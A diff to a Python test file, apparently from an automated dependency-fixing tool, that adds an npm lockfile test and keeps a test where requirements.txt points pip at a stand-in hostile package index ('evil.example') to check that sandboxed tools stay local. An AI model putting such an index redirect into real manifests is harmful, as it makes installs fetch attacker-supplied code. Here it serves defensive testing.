@@ -1,14 +1,15 @@
-"""The ladder in the real sandbox: its tools reach this machine's index, and nothing else."""
+"""The ladders in the real sandbox: their tools reach this machine's index, and nothing else."""
 
 import pytest
 
 from agents.pipelines.remediate.ladder import Fix, Level, climb, ecosystem_of
 from agents.policy import Policy
 from tests.agents.pipelines.remediate.ladder.conftest import TERMS, group
+from tests.agents.pipelines.remediate.ladder.npm.test_npm_real import alerts, has_npm, lock, real
 from tests.app.conftest import open_folder, sandbox
 from tests.app.dependencies.install.conftest import ground
 
-__all__ = ["ground", "open_folder", "sandbox"]  # fixtures
+__all__ = ["ground", "has_npm", "open_folder", "real", "sandbox"]  # fixtures
 
 
 @pytest.mark.usefixtures("has_index")
@@ -16,11 +17,28 @@ async def test_a_pin_is_moved_with_tools_that_the_sandbox_was_given(held):
     evil = "--index-url https://evil.example/simple\n"
     held.commit({"requirements.txt": f"{evil}sqlparse==0.4.4\n"})
     _, tree = await held.run(policy=Policy.model_validate({"setup": {"run": []}}))
-    alerts = group("sqlparse", "< 0.5.0", manifests=["requirements.txt"])
+    about = group("sqlparse", "< 0.5.0", manifests=["requirements.txt"])
 
-    fix = await climb(tree, ecosystem_of(frozenset({"requirements.txt"}), alerts), alerts, TERMS)
+    fix = await climb(tree, ecosystem_of(frozenset({"requirements.txt"}), about), about, TERMS)
 
     assert isinstance(fix, Fix), fix
     assert (fix.level, fix.files) == (Level.BUMP, ("requirements.txt",))
     assert await tree.read("requirements.txt") == f"{evil}sqlparse==0.5.0\n".encode()
+    assert await tree.snapshot() == fix.tree
+
+
+async def test_a_lock_moves_with_the_npm_that_the_sandbox_has(held, real):
+    await lock(
+        real, {"name": "shop", "dependencies": {"mkdirp": "0.5.5"}}, first={"minimist": "1.2.5"}
+    )
+    names = ("package.json", "package-lock.json")
+    held.commit({name: (real.folder / name).read_text() for name in names})
+    _, tree = await held.run(policy=Policy.model_validate({"setup": {"run": []}}))
+    about = alerts("minimist", "< 0.2.4", ">= 1.0.0, < 1.2.6")
+
+    fix = await climb(tree, ecosystem_of(frozenset(names), about), about, TERMS)
+
+    assert isinstance(fix, Fix), fix
+    assert (fix.level, fix.files) == (Level.FLOAT, ("package-lock.json",))
+    assert b'"version": "1.2.6"' in await tree.read("package-lock.json")
     assert await tree.snapshot() == fix.tree
